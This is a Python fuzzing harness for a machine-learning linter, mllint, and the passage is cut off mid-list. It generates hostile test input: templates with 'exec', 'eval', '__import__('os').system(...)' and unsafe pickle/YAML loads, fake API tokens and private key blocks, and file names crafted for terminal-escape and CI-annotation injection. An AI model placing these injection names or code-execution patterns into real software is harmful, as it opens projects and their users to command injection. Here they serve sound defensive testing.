"""Fuzz mllint with hostile and generated input, in-process and through the CLI.

Usage:
    python bench/fuzz.py                                  # a short run: 400 inputs
    python bench/fuzz.py --long --examples 100000         # the long mode (2 workers)
    python bench/fuzz.py --long --examples 100000 --workers 2 --batch 200 --out /tmp/mllint-fuzz
    python bench/fuzz.py --long --out /tmp/mllint-fuzz --resume      # go on after an interruption
    mllint check --select ALL OUT/failures/B-N/input           # lint a saved failure again

mllint runs on untrusted repositories, so no input may crash it, hang it or
make a rule fail: that is what this checks. Hypothesis generates the inputs
from strategies of our own (no hypothesmith):

- Python programs from a grammar of templates that exercise the rules'
  patterns (imports of torch/sklearn/pandas/numpy, seeds, ``torch.load`` /
  ``pickle.load`` / ``joblib.load``, saves, FastAPI/Flask handlers, ``fit`` /
  ``fit_transform`` / ``train_test_split``, training loops, tests with asserts,
  secret-looking strings, the ML7xx misuse patterns), one to three modules
  that may import each other;
- random bytes named ``.py`` or ``.ipynb``;
- this project's own files and examples, mutated: cut at random points, NUL
  bytes, latin-1 and UTF-16, byte order marks, mixed newlines, tabs and form
  feeds, very long lines, deep nesting, splices of two files;
- notebooks: random JSON shapes, schema-invalid cells, nbformat 3/4/5 and
  nonsense versions, huge, binary and surrogate-laden outputs, missing fields;
- project files: requirements (includes that loop or name devices),
  pyproject.toml, setup.cfg, setup.py, CI YAML (GitHub Actions, GitLab,
  pre-commit; anchors, aliases, recursive aliases, billion laughs),
  Makefiles, tox.ini, ``[tool.mllint]`` with garbage values, DVC files.

Two drivers. In-process, the runner is called directly and nothing is caught:
an exception, or an ML000 finding, is a failure. Through the CLI,
``python -m mllint check ... --select ALL`` runs with a timeout: its exit status
must be 0 or 1, its stderr must hold no traceback and no internal error, and
no ML000 may be reported. A configuration mllint rejects (exit 2 with one line)
is the expected answer to a garbage ``[tool.mllint]``: each project's
configuration is checked in-process first, and a rejected one is replaced, so
that its project's other files are still linted.

The long mode batches inputs: each batch is one tree (lintable inputs in one
project, each project input in a project of its own), linted by one
subprocess, in-process or through the CLI in turn, ``--workers`` at a time. A
batch that fails is narrowed to the inputs at fault, which are saved under
``--out``/failures with what went wrong. A batch over its time budget is a hang.
Each finished batch is logged in ``--out``/progress.jsonl, so an interrupted
campaign resumes (``--resume``) with its counts.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
import traceback
import xml.etree.ElementTree as ElementTree
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from random import Random

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parent.parent

#: Seconds one CLI run over a batch may take, plus this much per input.
CLI_TIMEOUT = 120.0
SECONDS_PER_INPUT = 3.0
#: Seconds one input alone may take before it counts as a hang.
SINGLE_TIMEOUT = 120.0
#: The largest seed file taken for mutation.
MAX_SEED_BYTES = 40_000
#: Bytes of address space a batch (and the mllint processes it starts) may use:
#: a blow-up fails there as a MemoryError instead of taking the machine down.
MEMORY_LIMIT = 4 * 1024**3
#: Formats the CLI driver cycles through (json first: it is the one fully checked).
CLI_FORMATS = ("json", "json", "sarif", "junit", "text", "github", "markdown")

Files = tuple[tuple[str, bytes], ...]


@dataclass(frozen=True)
class Input:
    """One generated input: files relative to its own folder.

    A project input (dependency files, CI, configuration, DVC) is linted as a
    project of its own; other inputs share one project."""

    kind: str
    files: Files
    project: bool = False


@dataclass
class Problem:
    """What went wrong, and on which input (its index in the batch; None: the whole batch)."""

    what: str  # "traceback", "ML000", "exit status", "hang", "output"
    detail: str
    input: int | None = None

    def to_json(self) -> dict[str, object]:
        return {"what": self.what, "detail": self.detail, "input": self.input}


# ---------------------------------------------------------------------------------------------
# Python programs
# ---------------------------------------------------------------------------------------------

_NAMES = ("model", "net", "clf", "X", "y", "df", "data", "batch", "loss", "opt", "scaler", "x_train",
          "y_test", "preds", "state", "cfg", "features", "rng", "request", "payload", "result", "_")
_PATHS = ('"model.pt"', '"/data/train.csv"', "path", 'f"{run}/model.pkl"', '"s3://bucket/model.joblib"',
          '"http://example.org/w.bin"', "'weights.pt'", "os.path.join(root, 'm.pkl')", '"C:\\\\data\\\\x.csv"',
          '"~/datasets/raw.parquet"', "sys.argv[1]", '"hf://org/model"')
_IMPORTS = (
    "import torch", "import torch.nn as nn", "import numpy as np", "import pandas as pd", "import pickle",
    "import joblib", "import random", "import yaml", "import requests", "import mlflow", "import logging",
    "import os", "import sys", "import tensorflow as tf", "import sklearn", "import dill", "import wandb",
    "import urllib.request", "import keras", "import jax", "from numpy.random import default_rng",
    "from sklearn.model_selection import train_test_split, cross_val_score",
    "from sklearn.cluster import KMeans", "from sklearn.preprocessing import StandardScaler",
    "from sklearn.ensemble import RandomForestClassifier", "from sklearn.linear_model import LogisticRegression",
    "from fastapi import FastAPI, Request", "from flask import Flask, request, jsonify",
    "from transformers import AutoModel, AutoTokenizer, pipeline", "from torch.utils.data import DataLoader",
    "import pytest", "import unittest", "from mypkg import *", "from . import utils", "from .. import helpers",
    "from utils import set_seed, load_model", "import train", "from serve import app", "import lightgbm as lgb",
    "import xgboost as xgb", "from datasets import load_dataset", "import bentoml", "import onnxruntime as ort",
)
_STATEMENTS = _IMPORTS + (
    "app = FastAPI()", "app = Flask(__name__)", "logger = logging.getLogger(__name__)",
    "{a} = torch.load({p})", "{a} = torch.load({p}, weights_only=True)", "{a} = torch.load({p}, map_location='cpu')",
    "{a}.load_state_dict(torch.load({p}))", "{a} = pickle.load(open({p}, 'rb'))", "{a} = pickle.loads({b})",
    "{a} = joblib.load({p})", "{a} = dill.load({b})", "{a} = yaml.load({b})", "{a} = yaml.load(open({p}), Loader=yaml.Loader)",
    "{a} = yaml.unsafe_load({b})", "{a} = pd.read_pickle({p})", "{a} = np.load({p}, allow_pickle=True)",
    "{a} = keras.models.load_model({p})", "{a} = ort.InferenceSession({p})",
    "torch.save({a}.state_dict(), {p})", "torch.save({a}, {p})", "joblib.dump({a}, {p})",
    "pickle.dump({a}, open({p}, 'wb'))", "{a}.save({p})", "{a}.to_csv({p})", "{a}.save_pretrained({p})",
    "mlflow.log_param('lr', {n})", "mlflow.sklearn.log_model({a}, 'model')", "wandb.init(project='x')",
    "np.random.seed({n})", "torch.manual_seed({n})", "random.seed({n})", "tf.random.set_seed({n})",
    "{a} = np.random.rand({n})", "{a} = np.random.default_rng()", "{a} = default_rng({n})", "{a} = random.random()",
    "{a} = torch.randn({n}, {n})", "random.shuffle({a})", "torch.backends.cudnn.benchmark = True",
    "torch.use_deterministic_algorithms(True)", "set_seed({n})",
    "{a}, {b}, {c}, {d} = train_test_split(X, y, test_size=0.2)", "{a}, {b} = train_test_split({c}, random_state={n})",
    "{a} = RandomForestClassifier(n_estimators={n})", "{a} = LogisticRegression(C={n}, max_iter={n})",
    "{a}.fit({b}, {c})", "{a} = {b}.fit_transform({c})", "{a} = StandardScaler().fit_transform(X)",
    "{a} = {b}.predict({c})", "{a} = {b}.score({c}, {d})", "{a} = cross_val_score({b}, X, y)",
    "{a} = KMeans()", "{a} = KMeans(n_clusters={n}, random_state=0)", "{a} = lgb.train({b}, {c})",
    "{a} = {b}.forward({c})", "{a} = {b}(**{c})", "{a}.backward()", "opt.step()", "opt.zero_grad()",
    "{a}.train()", "{a}.eval()", "{a} = DataLoader({b}, shuffle=True)", "{a} = DataLoader({b}, batch_size={n})",
    "{a} = df.dropna()", "df.dropna()", "df.fillna(0, inplace=True)", "df['a'][{b}] = {n}", "df.loc[{b}, 'a'] = {n}",
    "{a} = df[df.x == np.nan]", "{a} = {b} != np.nan", "{a} = pd.read_csv({p})", "{a} = pd.read_csv('/home/user/data.csv')",
    "{a} = df.iloc[:, {n}]", "{a} = load_dataset('imdb')", "{a} = load_dataset('org/data', revision='main')",
    "{a} = requests.get('http://example.org/data.csv')", "{a} = requests.get({p}, verify=False)",
    "urllib.request.urlretrieve({p}, 'x')", "{a} = AutoModel.from_pretrained({p}, trust_remote_code=True)",
    "{a} = AutoModel.from_pretrained('bert-base-uncased')", "{a} = pipeline('text-generation', model={p})",
    "os.system('pip install torch')", "subprocess.run(['pip', 'install', 'x'])",
    "API_KEY = {s}", "password = {s}", "{a} = {{'token': {s}}}", "os.environ['AWS_SECRET_ACCESS_KEY'] = {s}",
    "url = 'postgres://user:' + {s} + '@db/x'", "conn = 'mysql://admin:{w}@db.internal/prod'", "{a}(api_key={s})",
    "logger.info('prediction %s', {a})", "logging.info('model %s version %s input %s', {a}, {b}, {c})",
    "print({a})", "{a} = {t}", "{a} = {n}", "{a} = [{b} for {b} in range({n})]", "{a} = lambda {b}: {b} * {n}",
    "del {a}", "global {a}", "pass", "assert {a} == {b}", "assert {a}", "assert {a} is not None, {t}",
    "assert {a} == pytest.approx({n})", "self.assertEqual({a}, {b})", "raise ValueError({t})", "return {a}",
    "return {{'prediction': {a}}}", "yield {a}", "{a} += {n}", "{a}: int = {n}", "{a} = {b} if {c} else {d}",
    "{a} = {b}  # mllint: ignore[ML201]", "{a} = {b}  # noqa: ML601", "# mllint: ignore-file[ML202]",
    "{a} = {b}  # mllint: ignore", "{a} = f'{{{b}}} {{{c}!r:>{n}}}'", "{a} = b'\\x00\\xff'", "{a} = r'\\d+(?:x)*'",
    "{a} = {b}.{c}.{d}", "{a}[{b}] = {c}", "{a}, *{b} = {c}", "{a} = ({b} := {n})", "{a} = {b} @ {c}",
    "if __name__ == '__main__':\n    main()", "with pytest.raises(ValueError):\n    {a}()",
    "if {a} == np.nan:\n    pass", "exec(open('configurator.py').read())", "{a} = eval({t})",
    "__import__('os').system('touch MARKER')",
)
_BLOCKS = (
    "def {f}({a}, {b}={n}):\n{body}", "async def {f}({a}):\n{body}", "class {C}({B}):\n{body}",
    "for {a} in range({n}):\n{body}", "while {a}:\n{body}", "with torch.no_grad():\n{body}",
    "with open({p}, 'rb') as {a}:\n{body}", "if {a} > {b}:\n{body}\nelse:\n    pass",
    "try:\n{body}\nexcept Exception as {a}:\n    raise\nfinally:\n    pass",
    "for epoch in range({n}):\n    for {a}, {b} in loader:\n        opt.zero_grad()\n"
    "        loss = criterion(model({a}), {b})\n        loss.backward()\n        opt.step()\n{body}",
    "@app.post('/predict')\ndef predict({a}: dict):\n{body}", "@app.get('/health')\nasync def health():\n{body}",
    "@app.route('/predict', methods=['POST'])\ndef predict():\n{body}", "def test_{f}():\n{body}",
    "@pytest.mark.parametrize('x', [1, 2])\ndef test_{f}(x):\n{body}", "@pytest.fixture\ndef {f}():\n{body}",
    "class Test{C}(unittest.TestCase):\n    def test_{f}(self):\n{body8}", "match {a}:\n    case [{b}, *rest]:\n{body8}",
    "@torch.no_grad()\ndef {f}(self, {a}):\n{body}", "def __init__(self):\n    super().__init__()\n{body}",
)
_FUNCTIONS = ("main", "train", "evaluate", "predict", "load_model", "set_seed", "fit", "handler", "model_load",
              "prediction", "forward", "step", "loader", "run")
_CLASSES = ("Net", "Model", "Trainer", "Api", "Case", "Service")
_BASES = ("nn.Module", "object", "", "Base", "torch.nn.Module", "BaseEstimator")
_TOKEN_PREFIXES = ("AKIA", "ghp_", "sk-", "sk-ant-", "hf_", "xoxb-", "AIza", "github_pat_", "sk-proj-", "")
_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def _secret_literal(rng: Random) -> str:
    """A string literal a secret scanner should look at: a provider-shaped token,
    a URL with a password, a private key block, or a near miss."""
    body = "".join(rng.choice(_ALNUM + "_-") for _ in range(rng.randrange(49)))
    kind = rng.randrange(4)
    if kind == 0:
        text = rng.choice(_TOKEN_PREFIXES) + body
    elif kind == 1:
        text = f"https://{body[:8]}:{body[8:28]}!$@host.example.org/x"
    elif kind == 2:
        text = f"-----BEGIN RSA PRIVATE KEY-----\\n{body * 2}\\n-----END RSA PRIVATE KEY-----"
    else:
        text = _random_text(rng, 30)
    return repr(text)


def _random_text(rng: Random, most: int) -> str:
    """Short text from all of Unicode's planes, with a bias toward ASCII."""
    return "".join(chr(rng.choice((rng.randrange(32, 127), rng.randrange(0x110000)))) for _ in range(rng.randrange(most + 1))).encode(
        "utf-8", "replace").decode("utf-8", "replace")


def _fillers(rng: Random) -> dict[str, str]:
    number = rng.choice((str(rng.randrange(-5, 100)), str(rng.getrandbits(64)), "0.5", "1e-3", "True", "None", "x"))
    return {
        "a": rng.choice(_NAMES), "b": rng.choice(_NAMES), "c": rng.choice(_NAMES), "d": rng.choice(_NAMES),
        "p": rng.choice(_PATHS), "n": number, "s": _secret_literal(rng), "t": repr(_random_text(rng, 30)),
        "w": "".join(rng.choice(_ALNUM) for _ in range(rng.randrange(1, 17))), "f": rng.choice(_FUNCTIONS),
        "C": rng.choice(_CLASSES), "B": rng.choice(_BASES),
    }


def _fill(template: str, values: dict[str, str], body: list[str] | None = None) -> list[str]:
    """One statement (its lines) from a template; a block's *body* is indented into it."""
    text = "\n".join(body or ["pass"])
    filled = template.format(body=textwrap.indent(text, "    "), body8=textwrap.indent(text, " " * 8), **values)
    return filled.split("\n")


def _statements(rng: Random, depth: int) -> list[str]:
    """One to five statements, each a block (nesting up to *depth* more) or a simple one."""
    lines: list[str] = []
    for _ in range(rng.randrange(1, 6)):
        if depth > 0 and rng.random() < 0.3:
            lines.extend(_fill(rng.choice(_BLOCKS), _fillers(rng), _statements(rng, depth - 1)))
        else:
            lines.extend(_fill(rng.choice(_STATEMENTS), _fillers(rng)))
    return lines


def program(seed: int) -> str:
    """A Python module in the shape of ML code, from the grammar of templates:
    imports first (mostly), then statements nested up to three blocks deep."""
    rng = Random(seed)
    head = [rng.choice(_IMPORTS) for _ in range(rng.randrange(6))]
    body = [line for _ in range(rng.randrange(5)) for line in _statements(rng, rng.randrange(4))]
    return "\n".join([*head, *body]) + "\n"


def programs() -> st.SearchStrategy[str]:
    """Programs of :func:`program`. Hypothesis draws the seed, the grammar is walked
    with it: drawing every choice through hypothesis cost 150 ms a program."""
    return st.integers(0, 2**64 - 1).map(program)


_MODULE_PATHS = ("train.py", "serve.py", "app.py", "model.py", "utils.py", "tests/test_model.py", "test_train.py",
                 "conftest.py", "src/pkg/__init__.py", "src/pkg/data.py", "setup.py", "noxfile.py", "scripts/eval.py",
                 "notebooks/helpers.py", "benchmarks/bench.py", "docs/conf.py", "pipeline/predict_api.py",
                 "tests/conftest.py", "src/pkg/serving/handler.py", "__main__.py")


#: File names that break naive output: undecodable bytes (as ``surrogateescape``
#: gives them), line breaks, terminal escapes, option-like, separators the text and
#: GitHub formats use, the longest a file system takes, a folder named like a module.
_ODD_NAMES = ("b\udcff.py", "new\nline.py", "tab\t.py", "\x1b[31mred\x1b]0;title\x07.py", "-rf.py", "--help.py",
              " space .py", "ünïcødé.py", "a:b,c%0A::error::.py", "x" * 250 + ".py", ".py", "dir.py/inner.py",
              "CON.py", "notebook\r.ipynb", "a\\b.py", "quote'\"<&>.py")


def odd_name_inputs() -> st.SearchStrategy[Input]:
    """A generated module under a name that breaks naive output."""
    return st.builds(lambda name, text: Input("odd name", ((name, text.encode()),)), st.sampled_from(_ODD_NAMES), programs())


def python_inputs() -> st.SearchStrategy[Input]:
    """One to three generated modules of one project (cross-module rules read them together)."""
    modules = st.lists(st.tuples(st.sampled_from(_MODULE_PATHS), programs()), min_size=1, max_size=3,
                       unique_by=lambda module: module[0])
    return modules.map(lambda found: Input("program", tuple((path, text.encode()) for path, text in found)))


# ---------------------------------------------------------------------------------------------
# Random bytes and mutated real files
# ---------------------------------------------------------------------------------------------


def random_inputs() -> st.SearchStrategy[Input]:
    """Bytes and text no one wrote, named as something mllint lints."""
    data = st.one_of(st.binary(max_size=2000), st.text(max_size=500).map(lambda text: text.encode("utf-8")))
    return st.builds(lambda name, content: Input("random", ((name, content),)),
                     st.sampled_from(["random.py", "random.ipynb", "tests/test_random.py"]), data)


@dataclass(frozen=True)
class Seed:
    name: str
    data: bytes


def load_seeds(root: Path = ROOT) -> tuple[Seed, ...]:
    """This project's own files and its examples, the material mutations start from."""
    found = []
    for folder in ("mllint", "tests", "examples", "bench", "scripts"):
        for path in sorted((root / folder).rglob("*")):
            if path.suffix in (".py", ".ipynb", ".toml", ".txt", ".yaml", ".yml", ".cfg") and path.is_file() and \
                    "__pycache__" not in path.parts and ".mllint_cache" not in path.parts:
                data = path.read_bytes()
                if len(data) <= MAX_SEED_BYTES:
                    found.append(Seed(path.relative_to(root).as_posix(), data))
    return tuple(found)


def _cut(data: bytes, fraction: int) -> int:
    """A position in *data* from a fraction in ten-thousandths."""
    return len(data) * fraction // 10_000


def _mixed_newlines(data: bytes, pattern: int) -> bytes:
    endings = (b"\n", b"\r\n", b"\r")
    lines = data.split(b"\n")
    return b"".join(line + endings[(index * pattern + pattern // 3) % 3] for index, line in enumerate(lines[:-1])) + lines[-1]


def _indent_with(data: bytes, whitespace: bytes, every: int) -> bytes:
    lines = data.split(b"\n")
    return b"\n".join(whitespace + line if index % every == 0 else line for index, line in enumerate(lines))


#: Long lines, each from a unit repeated: a huge literal, comment, sum, list or an unclosed string.
_LONG_UNITS = (("x = '", b"a", "'"), ("# ", b"x", ""), ("x = 1", b" + 1", ""), ("x = [", b"1, ", "]"),
               ("x = '", b"\\'", ""), ("f(", b"a, ", ")"), ("x = \"\"\"", b"\"", ""), ("s = '", "é".encode(), "'"))
#: Deep nesting, each from an opener and closer repeated *depth* times around an atom.
_NESTINGS = (("(", "1", ")"), ("[", "", "]"), ("{", "", "}"), ("-", "1", ""), ("not ", "x", ""), ("lambda: ", "0", ""),
             ("f(", "", ""), ("", "x", ".a"), ("", "a", "[0]"), ("1 if x else ", "1", ""), ("(", "", ""),
             ("{'a': ", "1", "}"), ("f'{", "x", "}'"), ("x = y = ", "0", ""), ("await ", "x", ""))


def _long_line(data: bytes, fraction: int, which: int, size: int) -> bytes:
    head, unit, tail = _LONG_UNITS[which % len(_LONG_UNITS)]
    line = head.encode() + unit * size + tail.encode() + b"\n"
    at = data.rfind(b"\n", 0, _cut(data, fraction)) + 1
    return data[:at] + line + data[at:]


def _nested(data: bytes, which: int, depth: int) -> bytes:
    opener, atom, closer = _NESTINGS[which % len(_NESTINGS)]
    expression = opener * depth + atom + closer * depth
    if which % 4 == 0:
        blocks = "".join(" " * level + "if x:\n" for level in range(min(depth, 400))) + " " * min(depth, 400) + "pass\n"
        return data + blocks.encode()
    return data + f"\nx = {expression}\n".encode()


#: name -> function(data, a, b, c, other seed's data) -> mutated data
_MUTATIONS: dict[str, Callable[[bytes, int, int, int, bytes], bytes]] = {
    "truncate": lambda data, a, b, c, other: data[: _cut(data, a)],
    "nul": lambda data, a, b, c, other: data[: _cut(data, a)] + b"\0" + data[_cut(data, a):],
    "flip": lambda data, a, b, c, other: data[: _cut(data, a)] + bytes([b % 256]) + data[_cut(data, a) + 1:],
    "delete": lambda data, a, b, c, other: data[: _cut(data, a)] + data[_cut(data, a) + b % 200:],
    "repeat": lambda data, a, b, c, other: data[: _cut(data, a)] + data[_cut(data, a): _cut(data, a) + b % 200] * (c % 50) + data[_cut(data, a):],
    "latin-1": lambda data, a, b, c, other: data.decode("utf-8", "replace").encode("latin-1", "replace"),
    "latin-1 declared": lambda data, a, b, c, other: b"# -*- coding: latin-1 -*-\n" + data.decode("utf-8", "replace").encode("latin-1", "replace"),
    "utf-16": lambda data, a, b, c, other: data.decode("utf-8", "replace").encode("utf-16"),
    "utf-16-le": lambda data, a, b, c, other: data.decode("utf-8", "replace").encode("utf-16-le"),
    "bogus coding": lambda data, a, b, c, other: b"# coding: " + (b"utf-42", b"rot13", b"utf-16", b"\xff")[a % 4] + b"\n" + data,
    "bom": lambda data, a, b, c, other: (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb")[a % 4] + data,
    "bom inside": lambda data, a, b, c, other: data[: _cut(data, a)] + b"\xef\xbb\xbf" + data[_cut(data, a):],
    "crlf": lambda data, a, b, c, other: data.replace(b"\n", b"\r\n"),
    "cr": lambda data, a, b, c, other: data.replace(b"\n", b"\r"),
    "mixed newlines": lambda data, a, b, c, other: _mixed_newlines(data, a % 7 + 1),
    "tabs": lambda data, a, b, c, other: _indent_with(data, b"\t", b % 5 + 1),
    "form feeds": lambda data, a, b, c, other: _indent_with(data, (b"\f", b" \f", b"\f\t", b"\x0b")[a % 4], b % 3 + 1),
    "long line": lambda data, a, b, c, other: _long_line(data, a, b, 1000 + c % 400_000),
    "deep nesting": lambda data, a, b, c, other: _nested(data, b, 10 + c % (3000 if b % 2 else 60_000)),
    "splice": lambda data, a, b, c, other: data[: _cut(data, a)] + other[_cut(other, b % 10_000):],
    "ipython": lambda data, a, b, c, other: data[: _cut(data, a)] + (b"%matplotlib inline\n", b"!pip install x\n", b"x = !ls\n", b"obj?\n", b"%%time\n")[b % 5] + data[_cut(data, a):],
    "control characters": lambda data, a, b, c, other: data[: _cut(data, a)] + bytes([b % 32]) * (c % 9 + 1) + data[_cut(data, a):],
}


def mutated_inputs(seeds: Sequence[Seed]) -> st.SearchStrategy[Input]:
    """Real files, damaged by one to three mutations, under a name of the kind they are."""
    fraction = st.integers(0, 10_000)
    mutation = st.tuples(st.sampled_from(sorted(_MUTATIONS)), fraction, st.integers(0, 10_000), st.integers(0, 10**6),
                         st.sampled_from(seeds))

    def apply(seed: Seed, steps: list[tuple[str, int, int, int, Seed]]) -> Input:
        data = seed.data
        for name, a, b, c, other in steps:
            data = _MUTATIONS[name](data, a, b, c, other.data)
        suffix = Path(seed.name).suffix
        name = f"mutated{suffix}" if suffix in (".py", ".ipynb") else "mutated.py"
        applied = "+".join(step[0] for step in steps)
        return Input(f"mutated {seed.name} ({applied})", ((name, data),))

    return st.builds(apply, st.sampled_from(seeds), st.lists(mutation, min_size=1, max_size=3))


# ---------------------------------------------------------------------------------------------
# Notebooks
# ---------------------------------------------------------------------------------------------

_SURROGATES = ("\ud800", "\udfff", "\udc80\ud83d")
#: Units repeated into large outputs: secret- and PII-shaped text, markup, colour codes, near misses.
_OUTPUT_UNITS = (
    "a", "\n", "x" * 63 + "@", "a@b.co ", "555-123-4567 ", "+1 (555) 123 4567 ", "4111 1111 1111 1111 ",
    "password=", "token: ", "-----BEGIN PRIVATE KEY-----", "AKIA", "ghp_", "sk-", "<td>", "<", "\x1b[31m", "\x1b[",
    "http://u:", "://a:b@", "Author: ", "\r", "\t", "é", "\x00", "+1 ", "1-", "12 ", "=" * 40, "\\n",
)


def _big_text() -> st.SearchStrategy[str]:
    """Small or very large text: a unit repeated up to two million characters."""
    repeated = st.builds(lambda units, count: "".join(units) * count, st.lists(st.sampled_from(_OUTPUT_UNITS), min_size=1, max_size=3),
                         st.one_of(st.integers(0, 50), st.integers(0, 300_000)))
    return st.one_of(st.text(max_size=40), repeated, st.sampled_from(_SURROGATES))


def _json_values() -> st.SearchStrategy[object]:
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=12))
    return st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                         st.dictionaries(st.text(max_size=8), inner, max_size=4)),
                        max_leaves=10)


_MAGICS = ("%matplotlib inline", "%%time", "!pip install torch", "x = !ls", "obj?", "%%bash\npip install x",
           "%load_ext autoreload", "%%writefile f.py\nimport os", "%pip install -U numpy", "??x", "%%capture\nimport torch",
           "In [1]: import numpy", ">>> x = 1", "    indented = 1", "%time model.fit(X, y)", "get_ipython().system('ls')")


def _sources() -> st.SearchStrategy[object]:
    text = st.one_of(programs(), st.sampled_from(_MAGICS), st.text(max_size=60),
                     st.lists(st.sampled_from(_MAGICS), max_size=4).map("\n".join))
    return st.one_of(text, text.map(lambda source: source.splitlines(keepends=True)), _json_values())


def _outputs() -> st.SearchStrategy[object]:
    lines = st.one_of(_big_text(), _big_text().map(lambda text: text.splitlines(keepends=True)), _json_values())
    data = st.fixed_dictionaries({}, optional={
        "text/plain": lines, "text/html": lines, "text/markdown": lines, "application/json": _json_values(),
        "image/png": st.one_of(st.builds(lambda size: "iVBOR" + "A" * size, st.integers(0, 3_000_000)), _json_values()),
    })
    return st.one_of(
        st.fixed_dictionaries({"output_type": st.just("stream")}, optional={"name": st.sampled_from(["stdout", "stderr", 3]), "text": lines}),
        st.fixed_dictionaries({"output_type": st.sampled_from(["execute_result", "display_data", "update_display_data"])},
                              optional={"data": st.one_of(data, _json_values()), "metadata": _json_values(),
                                        "execution_count": st.one_of(st.none(), st.integers())}),
        st.fixed_dictionaries({"output_type": st.just("error")},
                              optional={"ename": st.text(max_size=20), "evalue": _big_text(), "traceback": st.one_of(st.lists(_big_text(), max_size=3), _json_values())}),
        _json_values(),
    )


def _cells() -> st.SearchStrategy[object]:
    cell = st.fixed_dictionaries({}, optional={
        "cell_type": st.sampled_from(["code", "code", "markdown", "raw", "heading", 5, None]),
        "source": _sources(), "input": _sources(),
        "outputs": st.one_of(st.lists(_outputs(), max_size=3), _json_values()),
        "execution_count": st.one_of(st.none(), st.integers(-3, 50), st.integers(), st.text(max_size=3)),
        "prompt_number": st.integers(), "metadata": st.one_of(_json_values(), st.fixed_dictionaries({"tags": _json_values()})),
        "id": st.text(max_size=10), "language": st.sampled_from(["python", "R", 1]),
    })
    return st.one_of(cell, cell, cell, _json_values())


def _valid_outputs() -> st.SearchStrategy[dict[str, object]]:
    """Outputs as Jupyter writes them, with text worth scanning (tokens, personal data, tracebacks)."""
    lines = _big_text().map(lambda text: text.splitlines(keepends=True))
    return st.one_of(
        st.builds(lambda name, text, tail: {"name": name, "output_type": "stream", "text": [*text, tail]}, st.sampled_from(["stdout", "stderr"]),
                  lines, st.sampled_from(["", "\nTraceback (most recent call last)\nValueError: x\n", "Warning: y\n"])),
        st.builds(lambda text, count: {"data": {"text/plain": text, "text/html": text}, "execution_count": count, "metadata": {},
                                       "output_type": "execute_result"}, lines, st.integers(1, 50)),
        st.builds(lambda name, value, frames: {"ename": name, "evalue": value, "output_type": "error", "traceback": frames},
                  st.sampled_from(["ValueError", "KeyboardInterrupt", "ModuleNotFoundError"]), _big_text(), st.lists(_big_text(), max_size=3)),
    )


def _valid_cells() -> st.SearchStrategy[dict[str, object]]:
    """Cells nbformat accepts: code (with outputs and counts) and markdown."""
    source = st.one_of(programs(), st.sampled_from(_MAGICS), st.lists(st.sampled_from(_MAGICS), max_size=3).map("\n".join))
    code = st.builds(lambda text, count, outputs, number: {
        "cell_type": "code", "execution_count": count, "id": f"c{number}", "metadata": {}, "outputs": outputs,
        "source": text.splitlines(keepends=True)}, source, st.one_of(st.none(), st.integers(1, 50)), st.lists(_valid_outputs(), max_size=2),
        st.integers(0, 10**6))
    markdown = st.builds(lambda text, number: {"cell_type": "markdown", "id": f"m{number}", "metadata": {}, "source": text},
                         _big_text(), st.integers(0, 10**6))
    return st.one_of(code, code, markdown)


def _notebook_documents() -> st.SearchStrategy[object]:
    version = st.sampled_from([4, 4, 4, 3, 5, 2, 1, 99, -1, "4", None, 4.0, True])
    cells = st.lists(_cells(), max_size=6)
    modern = st.fixed_dictionaries({"cells": cells, "nbformat": version},
                                   optional={"metadata": _json_values(), "nbformat_minor": st.sampled_from([0, 2, 4, 5, 99, "x"])})
    legacy = st.fixed_dictionaries({"worksheets": st.one_of(st.lists(st.fixed_dictionaries({"cells": cells}), max_size=2), _json_values()),
                                    "nbformat": version}, optional={"metadata": _json_values(), "nbformat_minor": st.integers(0, 5)})
    valid = st.builds(lambda found: {"cells": found, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
                                     "nbformat": 4, "nbformat_minor": 5}, st.lists(_valid_cells(), max_size=8, unique_by=lambda cell: cell["id"]))
    return st.one_of(valid, valid, valid, modern, legacy, _json_values(), st.fixed_dictionaries({}, optional={"cells": cells, "metadata": _json_values()}))


def _dump_notebook(document: object, indent: object, ascii_only: bool, damage: int, depth: int) -> bytes:
    """The notebook's JSON text, sometimes damaged: cut, BOM, CRLF, UTF-16, deeply nested."""
    text = json.dumps(document, indent=indent, ensure_ascii=ascii_only)  # type: ignore[arg-type]
    if damage == 1:
        text = text[: len(text) * 2 // 3]
    elif damage == 2:
        text = "\ufeff" + text.replace("\n", "\r\n")
    elif damage == 3:
        return text.encode("utf-16", "surrogatepass")
    elif damage == 4:
        text = '{"cells": ' + "[" * depth + "]" * depth + ', "nbformat": 4, "metadata": {}, "nbformat_minor": 5}'
    elif damage == 5:
        text = text.replace('"', "'", 3)
    return text.encode("utf-8", "surrogatepass")


def notebook_inputs() -> st.SearchStrategy[Input]:
    content = st.builds(_dump_notebook, _notebook_documents(), st.sampled_from([None, 1, 2, "\t"]), st.booleans(),
                        st.sampled_from([0, 0, 0, 0, 1, 2, 3, 4, 5]), st.integers(1, 200_000))
    name = st.sampled_from(["eda.ipynb", "notebooks/train.ipynb", "tests/test_nb.ipynb", ".ipynb_checkpoints/x.ipynb"])
    return st.builds(lambda path, data: Input("notebook", ((path, data),)), name, content)


# ---------------------------------------------------------------------------------------------
# Project files: dependencies, configuration, CI, task runners, DVC
# ---------------------------------------------------------------------------------------------

_PACKAGES = ("torch", "numpy", "scikit-learn", "sklearn", "pandas", "tensorflow", "jax", "", "-", "a" * 300,
             "Torch_Vision", "ümlaut", "pkg.name", "mllint", "pytest", "requests", "fastapi", "dvc")
_VERSIONS = ("1.0", "2.*", "", "v1", "1.0.0a1", "9" * 100, "latest", "==", "1.0; python_version<'3.8'", ">=1,<2")
_REQUIREMENT_LINES = (
    "{pkg}", "{pkg}=={ver}", "{pkg}>={ver},<{ver}", "{pkg}[gpu,dev]~={ver}", "{pkg} @ git+https://github.com/o/r@{ver}",
    "git+https://github.com/o/{pkg}.git#egg={pkg}", "-e .", "-e git+ssh://git@github.com/o/r.git#egg=r",
